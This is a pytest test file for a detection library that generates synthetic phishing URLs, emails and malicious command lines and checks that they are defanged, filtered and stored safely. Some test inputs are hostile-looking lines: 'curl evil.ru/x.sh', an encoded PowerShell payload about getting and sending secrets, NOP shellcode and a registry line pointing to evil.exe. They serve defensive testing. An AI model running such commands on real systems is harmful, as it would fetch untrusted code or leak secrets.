"""Synthetic examples: templates, generators, defanging, filters, storage, and the trial."""

import base64
import json
import re
from dataclasses import replace

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from buckler.attacks import attacks_on
from buckler.dataset import Dataset
from buckler.dataset.splits import apart_from
from buckler.errors import InputError, SettingsError
from buckler.labels import Annotator
from buckler.normalize.feature_schema import category_number
from buckler.students import get_student
from buckler.synthesis.defanging import defang, find_unsafe, harmless_base64, refang
from buckler.synthesis.filters import FilterSettings, filter_drafts
from buckler.synthesis.format_check import find_format_error
from buckler.synthesis.generate import GenerationSettings, generate_examples, spread_drafts
from buckler.synthesis.generator import Draft, Generator, get_generator
from buckler.synthesis.generators.grammar import expand
from buckler.synthesis.synthesis_report import SynthesisReport
from buckler.synthesis.synthetic_examples import (
    MARK,
    SyntheticExample,
    as_dataset,
    decode_text,
    encode_text,
    read_synthetic_examples,
    write_synthetic_examples,
)
from buckler.synthesis.template import Combination, apply_transforms, list_templates, read_template
from buckler.synthesis.text_orders import read_texts
from buckler.synthesis.two_sample import two_sample_test
from buckler.synthesis.verifiers import Verifier, student_verifier
from buckler.tasks import Task, get_task
from buckler.training.cross_validation import StudentSpec, cross_validate
from buckler.training.synthesis_trial import HeldOutKind, TrialSettings, _split, run_trial
from tests.support.cli import buckler
from tests.support.made_up import made_up_events, made_up_rows

URL = get_task("url-threat")
TEXT = Task("text", {"good": "", "bad": ""}, positive=("bad",))


def events(n=600, seed=0):
    return made_up_events(n, np.random.default_rng(seed))


class Fixed(Generator):
    """A generator whose drafts are given beside it."""

    kind = "fixed"
    annotator = Annotator("me", "1", "rule")

    def drafts(self, counts):
        return iter(())


def combination(label="phishing", **attributes):
    return Combination(label, attributes)


def synthetic_example(text, label="phishing", seed_groups=()):
    return SyntheticExample(text, label, f"{label}, a=b", {"a": "b"}, "me", "1", seed_groups)


# --- the template ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", list_templates())
def test_templates_that_come_with_tasks_are_valid_and_cover_their_attributes(name):
    task = get_task(name)
    template = read_template(task)
    assert len(template.combinations) > 50
    assert len({c.name for c in template.combinations}) >= 0.95 * len(template.combinations)
    assert not task.positive or set(task.positive) & {c.label for c in template.combinations}
    assert len({c.label for c in template.combinations}) > 1, "look-alikes are needed too"
    slots = template.slots
    for c in template.combinations:
        rng = np.random.default_rng(0)
        for pattern in c.patterns:
            assert "[[" not in expand(pattern, slots | c.slots, rng)


def test_a_template_says_what_is_wrong_with_it(tmp_path):
    def template(text):
        path = tmp_path / "template.toml"
        path.write_text(f'task = "url-threat"\n{text}', encoding="utf-8")
        return lambda: read_template(URL, path)

    for text, message in (
        ('[[family]]\nclass = "odd"\n', "no class 'odd'"),
        ('[[family]]\nclass = "phishing"\npatterns = ["[[nothing]]"]\n', "no slot 'nothing'"),
        ('[[family]]\nclass = "phishing"\ncombine.lure = "*"\n', "of attribute 'lure'"),
        (
            '[attribute.a.b]\ntransform = "magic"\n[[family]]\nclass = "phishing"\n',
            "no attack 'magic'",
        ),
    ):
        with pytest.raises(SettingsError, match=re.escape(message)):
            template(text)()
    with pytest.raises(SettingsError, match="comes without a template"):
        read_template(replace(URL, name="mine"))
    with pytest.raises(SettingsError, match="no combination of the template"):
        read_template(URL).matching({"lure": {"none"}})


def test_slots_that_hold_each_other_end():
    with pytest.raises(SettingsError, match="deep"):
        expand("[[a]]", {"a": ["[[a]]"]}, np.random.default_rng(0))
    with pytest.raises(SettingsError, match="20,000"):
        expand("[[a]]", {"a": ["[[a]][[a]]" + "x" * 9000]}, np.random.default_rng(0))


# --- safeguards ---------------------------------------------------------------------------------

HOSTS = st.from_regex(r"\A[a-z]{1,12}(-[a-z0-9]{1,8})?\.(com|net|io|ru|co\.uk|de)\Z")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("http://paypal-login.com/a", "http://paypal-login.example/a"),
        ("https://a.b.co.uk:8080/x", "https://a.b.example:8080/x"),
        ("mail bob@corp.com now", "mail bob@corp.example now"),
        (r"copy a \\files.corp.com\c$", r"copy a \\files.corp.example\c$"),
        ("curl evil.ru/x.sh", "curl evil.example/x.sh"),
        ("ping 8.8.8.8", None),
        ("http://[2606:4700::1111]/", "http://[2001:db8::2]/"),
        ("http://134744072/", "http://3405803778/"),
    ],
)
def test_names_and_addresses_become_reserved_ones(text, safe):
    assert find_unsafe(text) is not None or "134744072" in text
    made = defang(text)
    assert safe is None or made == safe
    assert find_unsafe(made) is None
    assert defang(made) == made


@pytest.mark.parametrize(
    "text",
    [
        "reg add HKCU\\Software\\A /v b /d c:\\x\\evil.exe",
        "http://a.example/x?y=1.2.3.400",
        "ping 192.168.1.5",
        "python setup.py install; sh run.sh; more.com < a",
        "http://files.example.com/readme.md",
        "System.Net.WebClient",
        "powershell -enc " + harmless_base64(60),
    ],
)
def test_what_is_harmless_stays_as_it_is(text):
    assert defang(text) == text
    assert find_unsafe(text) is None


def test_payloads_become_remarks():
    payload = base64.b64encode("Invoke-Evil -Now; Get-Secrets | Send".encode("utf-16-le")).decode()
    made = defang(f"powershell -enc {payload}")
    blob = made.rsplit(" ", 1)[1]
    assert payload not in made
    assert "synthetic" in base64.b64decode(blob + "==").decode("utf-16-le", "ignore")
    shellcode = "\\x90" * 30
    assert "\\x90" not in defang(f"echo {shellcode}")
    assert find_unsafe(defang(f"echo {shellcode}")) is None


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200) | HOSTS.map(lambda h: f"https://{h}/x mail a@{h}"))
def test_safeguards_are_final_on_any_text(text):
    made = defang(text)
    assert find_unsafe(made) is None
    assert defang(made) == made


@settings(max_examples=100, deadline=None)
@given(HOSTS)
def test_a_student_sees_usual_names_and_no_reserved_ones(host):
    shown = refang(defang(f"http://{host}/login"))
    assert ".example" not in shown
    assert shown == refang(defang(f"http://{host}/login"))


# --- storage ------------------------------------------------------------------------------------


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=300))
def test_what_is_stored_is_marked_and_comes_back(text):
    stored = encode_text(text)
    assert stored.startswith(MARK)
    assert not re.search(r"\s|//|@", stored[len(MARK) :].replace("//", ""))
    assert decode_text(stored) == text


def test_a_file_of_synthetic_examples_holds_no_text_that_could_be_run_or_taken_for_real(tmp_path):
    path = tmp_path / "s.parquet"
    made = [synthetic_example("http://login-bank.example/evil-path", seed_groups=("g1", "g2"))]
    write_synthetic_examples(path, made, URL, SynthesisReport(synthetic_examples=1))
    assert b"login-bank" not in path.read_bytes()
    assert b"evil-path" not in path.read_bytes()
    back, report = read_synthetic_examples(path, URL)
    assert back == made
    assert report == SynthesisReport(synthetic_examples=1)
    done = buckler("train", path, "-t", "url-threat", "-o", tmp_path / "out")
    assert done.returncode == 2, "synthetic examples are no events"
    with pytest.raises(InputError, match="another task"):
        read_synthetic_examples(path, get_task("email"))


@pytest.mark.parametrize("damage", ["plain", "class", "mark", "columns"])
def test_a_damaged_file_of_synthetic_examples_is_an_error_with_its_row(tmp_path, damage):
    path = tmp_path / "s.parquet"
    write_synthetic_examples(
        path, [synthetic_example("http://a.example/")] * 2, URL, SynthesisReport()
    )
    table = pq.read_table(path)
    if damage == "plain":
        path.write_bytes(b"nothing of the kind")
    elif damage == "columns":
        pq.write_table(table.drop_columns(["combination"]), path)
    else:
        column = "class" if damage == "class" else "synthetic_example"
        index = table.schema.get_field_index(column)
        pq.write_table(table.set_column(index, column, pa.array(["x", "y"])), path)
    with pytest.raises(InputError, match=r"s\.parquet"):
        read_synthetic_examples(path, URL)


# --- filters ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("task", "text", "reason"),
    [
        ("url-threat", "http://a.example/x", None),
        ("url-threat", "http://a b.example/", "white space in a URL"),
        ("url-threat", "http://[::1", "no URL"),
        ("url-threat", "http:///path", "a URL without a host"),
        ("url-threat", "http://a.example/[[path]]", "an unfilled slot"),
        ("url-threat", "a\x00b.example", "control characters"),
        ("command-line", "schtasks /create", None),
        ("command-line", "whoami /all", "without its tool"),
        ("command-line", 'schtasks "open', "quotes that do not close"),
        ("command-line", "schtasks " + "x" * 9000, "longer than a command line"),
        ("email", "From: a@a.example\nSubject: s\n\n" + "word " * 10, None),
        ("email", "Subject: s\n\n" + "word " * 10, "a message without From"),
        ("email", "From: a@a.example\nSubject: s\n\nhi", "a message without a body"),
    ],
)
def test_a_synthetic_example_must_parse_as_what_it_claims_to_be(task, text, reason):
    a_cell = combination("malicious", tool="schtasks") if task == "command-line" else combination()
    assert find_format_error(text, a_cell, get_task(task)) == reason


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=400), st.sampled_from(["url-threat", "command-line", "email"]))
def test_the_format_check_takes_any_text(text, name):
    find_format_error(text, combination(tool="x"), get_task(name))


def test_each_filter_rejects_what_it_should_and_counts_it():
    real = events()
    raw = [t.decode() for t in real.raw_texts]
    positive = np.flatnonzero(real.labels == 1)
    template = read_template(URL)
    combinations = template.combinations[:3]
    fresh = [f"http://{w}-{k}{w[::-1]}.example/{w}{k * 37}/{w}" for k, w in enumerate("abcdefgh")]
    drafts = [
        Draft("not a url", combinations[0]),
        Draft(raw[positive[0]], combinations[0]),
        Draft("http://unique-one.example/some/long/path/here", combinations[0]),
        Draft("http://unique-one.example/some/long/path/here", combinations[1]),
        Draft(raw[positive[1]] + "&session=" + "x1y2z3" * 3, combinations[1], (int(positive[1]),)),
        Draft("http://contradicted.example/abcdef/ghijkl", combinations[2]),
        *(Draft(text, combinations[k % 3]) for k, text in enumerate(fresh)),
    ]

    def probabilities(some):
        p = np.tile([0.1, 0.9], (len(some), 1))
        texts = some.raw_texts
        p[[i for i, t in enumerate(texts) if b"contradicted" in t]] = [0.9, 0.1]
        p[[i for i, t in enumerate(texts) if b"bcdefgh" in t]] = np.nan
        return p

    passed = filter_drafts(
        drafts,
        Fixed(template, real),
        FilterSettings(copied=0.5, new=0.0),
        5,
        verifier=Verifier("a rule", 0.5, probabilities),
    )
    rejects = passed.report.rejects
    assert rejects["format"] == 1
    assert passed.report.reasons["format"] == {"white space in a URL": 1}
    assert rejects["duplicate of a real event"] == 1
    assert rejects["duplicate of an earlier one"] == 1
    assert rejects["copy of a seed"] == 1
    assert rejects["verifier"] == 1
    assert rejects["combination is full"] == 9 - 5
    assert len(passed.synthetic_examples) == 5
    assert sum(rejects.values()) + len(passed.synthetic_examples) == len(drafts)
    _, counts = np.unique([s.combination for s in passed.synthetic_examples], return_counts=True)
    assert max(counts) == 2
    json.dumps(json.loads(passed.report.model_dump_json()), allow_nan=False)


def test_silence_of_a_verifier_is_no_agreement():
    template = read_template(URL)
    passed = filter_drafts(
        [Draft("http://quiet.example/abc", template.combinations[0])],
        Fixed(template, events()),
        FilterSettings(),
        5,
        verifier=Verifier("silent", 0.0, lambda some: np.full((len(some), 2), np.nan)),
    )
    assert passed.report.rejects["verifier"] == 1
    assert passed.report.unverified == 1


def test_the_two_sample_test_knows_same_from_other():
    real = events(1200, 1)
    same = events(1200, 2)
    same = same.take(np.flatnonzero(same.labels == 1))
    positive = real.take(np.flatnonzero(real.labels == 1))
    combinations = np.arange(len(same)) % 20
    assert two_sample_test(same, positive, blocks=combinations).auroc.value < 0.65
    odd = as_dataset(
        [synthetic_example(f"http://zzz{k}qqq.example/{k * k}") for k in range(200)], URL
    )
    found = two_sample_test(odd, positive, blocks=np.arange(200) % 20)
    assert found.auroc.value > 0.99
    assert np.isfinite(found.synthetic).all()
    few = two_sample_test(odd.take(np.arange(5)), positive)
    assert np.isnan(few.auroc.value)


def test_examples_that_are_plainly_synthetic_are_rejected_when_asked():
    template = read_template(URL)
    drafts = [
        Draft(f"http://zz{k}q{k * 7}.example/w{k * k}/zzqq{k}", template.combinations[k % 40])
        for k in range(300)
    ]
    kept = filter_drafts(
        drafts,
        Fixed(template, events(1200)),
        FilterSettings(real_vs_synthetic=0.9, new=0.0),
        300,
    )
    assert kept.report.rejects["real-vs-synthetic"] > 150


# --- generators ---------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["grammar", "mutation"])
@pytest.mark.parametrize("name", ["url-threat", "command-line", "email"])
def test_generators_write_harmless_sound_synthetic_examples_and_the_same_again(name, kind):
    task = get_task(name)
    template = read_template(task)
    real = small(task)
    made = [
        generate_examples(get_generator(kind, template, real, 3), GenerationSettings(60))
        for _ in range(2)
    ]
    assert made[0].synthetic_examples == made[1].synthetic_examples
    assert len(made[0].synthetic_examples) > (40 if kind == "grammar" else 3)
    for one in made[0].synthetic_examples:
        assert find_unsafe(one.text) is None
        assert one.label in task.classes
    assert len(spread_drafts(template, 100)) <= 100
    assert sum(n for _, n in spread_drafts(template, 997)) == 997


def small(task):
    """Some real-looking events of a task, made up."""
    if task.name == "url-threat":
        return events(400)
    rng = np.random.default_rng(0)
    words = [
        "alpha",
        "beta",
        "gamma",
        "delta",
        "meeting",
        "update",
        "report",
        "release",
        "server",
        "backup",
        "logs",
        "task",
    ]
    texts, labels = [], []
    for k in range(400):
        positive = k % 2
        body = " ".join(rng.choice(words, 12)) + (
            " click verify account" if positive else " regards"
        )
        if task.name == "email":
            text = f"From: p{k}@h{k}.example\nSubject: {body[:20]}\n\n{body}\n"
            label = "phishing" if positive else "ham"
        else:
            text = f"tool{k % 7}.exe /run {body}" if positive else f"ls -la /home/{body}"
            label = "malicious" if positive else "benign"
        texts.append(text.encode())
        labels.append(label)
    return Dataset.from_texts(
        texts,
        task,
        ids=[k.to_bytes(16, "little") for k in range(400)],
        labels=labels,
        groups=[f"g{k % 90}" for k in range(400)],
        sources=["a"] * 400,
    )


def test_mutations_stem_from_their_seeds_and_are_held_out_with_them():
    real = events(400)
    template = read_template(URL)
    generator = get_generator("mutation", template, real, 0)
    made = generate_examples(generator, GenerationSettings(50)).synthetic_examples
    assert made
    assert all(s.seed_groups for s in made)
    own = as_dataset(made, URL)
    first = made[0].seed_groups[0]
    held = real.take(np.flatnonzero(real.groups == first))
    kept = apart_from(own, held)
    assert 0 not in kept
    assert set(kept) == {k for k, s in enumerate(made) if first not in s.seed_groups}


@settings(max_examples=200, deadline=None)
@given(
    st.text(max_size=200),
    st.sampled_from(sorted(a.name for a in attacks_on("text"))),
    st.integers(0, 99),
)
def test_transforms_take_any_text_and_are_repeatable(text, name, seed):
    changed = Combination("positive", {}, transforms={"style": name})
    one = apply_transforms(text, changed, TEXT, np.random.default_rng(seed))
    assert one == apply_transforms(text, changed, TEXT, np.random.default_rng(seed))
    assert len(one) <= 4 * len(text) + 60


def test_transforms_of_a_message_leave_its_headers():
    text = "From: a@b.example\nSubject: hello\n\nThe quick brown fox jumps over"
    changed = Combination("phishing", {}, transforms={"style": "random-case"})
    made = apply_transforms(text, changed, get_task("email"), np.random.default_rng(0))
    assert made.startswith("From: a@b.example\nSubject: hello\n\n")
    assert made != text


# --- learning from them -------------------------------------------------------------------------


def test_synthetic_examples_earn_their_place_where_a_kind_is_unseen_and_not_otherwise():
    real = events(2000)
    kind = np.array([b"wallet" in t for t in real.raw_texts])
    unseen = kind & (real.labels == 1)
    rng = np.random.default_rng(5)
    like = [
        synthetic_example(
            f"https://wallet-{w}{rng.integers(999)}.example/wallet.php?u={rng.integers(999)}"
        )
        for w in rng.choice(["news", "shop", "river", "cloud"], 150)
    ]
    nothing = [synthetic_example(f"https://q{k}.example/{k * 31}") for k in range(150)]
    three = TrialSettings(seeds=3)
    helped = run_trial(real, like, settings=three, held_out=HeldOutKind("wallets", unseen))
    not_helped = run_trial(real, nothing, settings=three)
    assert helped.gain >= not_helped.gain
    assert not not_helped.kept
    assert "discarded" in not_helped.summary
    assert helped.held_out == "wallets"
    assert json.loads(helped.model_dump_json())["gain"] == helped.gain
    with pytest.raises(InputError, match="no real event is of the kind"):
        run_trial(real, like, held_out=HeldOutKind("x", np.zeros(len(real), bool)))


def test_synthetic_examples_never_decide_when_a_student_stops():
    """A student that watched synthetic examples would stop where it knows them by heart."""
    real = events(300)
    made = [synthetic_example(f"http://s{k}.example/{k}", "benign") for k in range(200)]
    extra = as_dataset(made, URL)
    sizes = []

    class Watching(type(get_student("ngram", {}))):
        def fit(self, training: Dataset, validation=None, on_epoch=None):
            sizes.append((len(training), len(validation)))
            return super().fit(training, validation, on_epoch)

    import buckler.training.cross_validation as module

    original = module.get_student
    module.get_student = lambda family, values: Watching(**values)
    try:
        cross_validate(real, StudentSpec("ngram", {"epochs": 1}, folds=3), additional=extra)
    finally:
        module.get_student = original
    assert sum(validation for _, validation in sizes) == len(real)
    assert all(training >= 200 for training, _ in sizes)


# --- what a language model writes ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "texts"),
    [
        ('{"texts": ["a", "b"]}', ["a", "b"]),
        ('Sure! ```json\n{"texts": ["a b", "c"]}\n```', ["a b", "c"]),
        ('{"texts": ["whole", "cut o', ["whole"]),
        ('["x", 1, "y"]', ["x"]),
        ('{"texts": ["", "  "]}', []),
        ("I cannot do that", []),
        ('{"texts": "a"}', []),
        ("", []),
    ],
)
def test_texts_are_read_from_any_answer(answer, texts):
    assert read_texts(answer) == texts


@given(st.text(max_size=300))
def test_reading_texts_never_fails(answer):
    assert isinstance(read_texts(answer), list)
    assert isinstance(read_texts('{"texts": [' + answer), list)


# --- rows of features ----------------------------------------------------------------------------


def row_plan(tmp_path, task, attributes):
    names = "".join(f'combine.{name} = "*"\n' for name in ("part", "pace"))
    path = tmp_path / "rows.toml"
    path.write_text(
        f'task = "{task.name}"\n{attributes}\n[[family]]\nclass = "positive"\n{names}'
        f'[[family]]\nclass = "good"\n{names}'
    )
    return path


ROW_ATTRIBUTES = """
[attribute.part.own]
[attribute.part.other]
take = ["n*", "kind"]
[attribute.pace.same]
[attribute.pace.slow]
scale = { "n0" = [0.1, 0.2] }
set = { n1 = [7.0] }
"""


def test_rows_are_crossed_within_their_class(tmp_path):
    rows, task = made_up_rows(400, np.random.default_rng(0))
    names = task.features.names
    values = rows.features.values
    attributes = ROW_ATTRIBUTES.replace('"n*", "kind"', f'"{names[0]}", "{names[-1]}"')
    attributes = attributes.replace('"n0"', f'"{names[1]}"').replace("n1 =", f"{names[2]} =")
    template = read_template(task, row_plan(tmp_path, task, attributes))
    crossover = get_generator("crossover", template, rows, 0)
    counts = [(combination, 6) for combination in template.combinations]
    drafts = list(crossover.drafts(counts))
    assert len(drafts) == 6 * 8
    assert [d.text for d in crossover.drafts(counts)] == [d.text for d in drafts]
    for draft in drafts:
        assert find_format_error(draft.text, draft.combination, task) is None
        row = np.frombuffer(task.features.normalize(draft.text), "<f4")
        first = values[draft.seeds[0]]
        label = task.class_names.index(draft.combination.label)
        assert all(rows.labels[s] == label for s in draft.seeds)
        other = values[draft.seeds[-1]]
        expected = first.copy()
        if draft.combination.attributes["part"] == "other":
            expected[[0, -1]] = other[[0, -1]]
        if draft.combination.attributes["pace"] == "slow":
            assert row[2] == 7
            if np.isfinite(first[1]) and first[1]:
                assert 0.099 < row[1] / first[1] < 0.201
            expected[[1, 2]] = row[[1, 2]]
        np.testing.assert_array_equal(row, expected)


def test_synthetic_examples_of_rows_pass_filters_and_are_tried_with_trees(tmp_path):
    rows, task = made_up_rows(600, np.random.default_rng(0))
    names = task.features.names
    attributes = ROW_ATTRIBUTES.replace('"n*", "kind"', f'"{names[0]}", "{names[-1]}"')
    attributes = attributes.replace('"n0"', f'"{names[1]}"').replace("n1 =", f"{names[2]} =")
    template = read_template(task, row_plan(tmp_path, task, attributes))
    generator = get_generator("crossover", template, rows, 0)
    verifier = student_verifier(rows)
    passed = generate_examples(generator, GenerationSettings(120), verifier=verifier)
    report = passed.report
    assert sum(report.rejects.values()) + report.synthetic_examples == report.drafts
    assert report.synthetic_examples > 20
    write_synthetic_examples(tmp_path / "s.parquet", passed.synthetic_examples, task, report)
    again, _ = read_synthetic_examples(tmp_path / "s.parquet", task)
    assert [s.text for s in again] == [s.text for s in passed.synthetic_examples]
    two = TrialSettings(seeds=2)
    trial = run_trial(rows, passed.synthetic_examples, "trees", {"epochs": 3}, two)
    assert trial.seeds == 2


def test_what_fits_texts_does_not_fit_rows_and_says_so(tmp_path):
    rows, task = made_up_rows(100, np.random.default_rng(0))
    template = read_template(task, row_plan(tmp_path, task, ROW_ATTRIBUTES))
    with pytest.raises(SettingsError, match="crossover"):
        get_generator("mutation", template, rows, 0)
    with pytest.raises(SettingsError, match="rows of features"):
        get_generator("crossover", read_template(URL), events(), 0)
    reason = "no row of features, or one without a value"
    assert find_format_error("{}", template.combinations[0], task) == reason
    assert find_format_error("[1", template.combinations[0], task) == reason


@given(st.integers(0, 1020))
def test_a_numbered_category_is_its_number(number):
    assert category_number(f"#{number}") == number
    assert category_number(f"# {number}") != number or number == category_number(f"# {number}")


def test_a_trial_with_few_groups_holds_out_whole_ones():
    many = events(300)
    few = many.with_groups([f"company {i % 4}" for i in range(300)])
    held = set()
    for seed in range(8):
        split = _split(few, seed)
        groups = set(few.column("group")[split.right])
        assert len(groups) == 1
        assert not groups & set(few.column("group")[split.left])
        held |= groups
    assert len(held) > 1
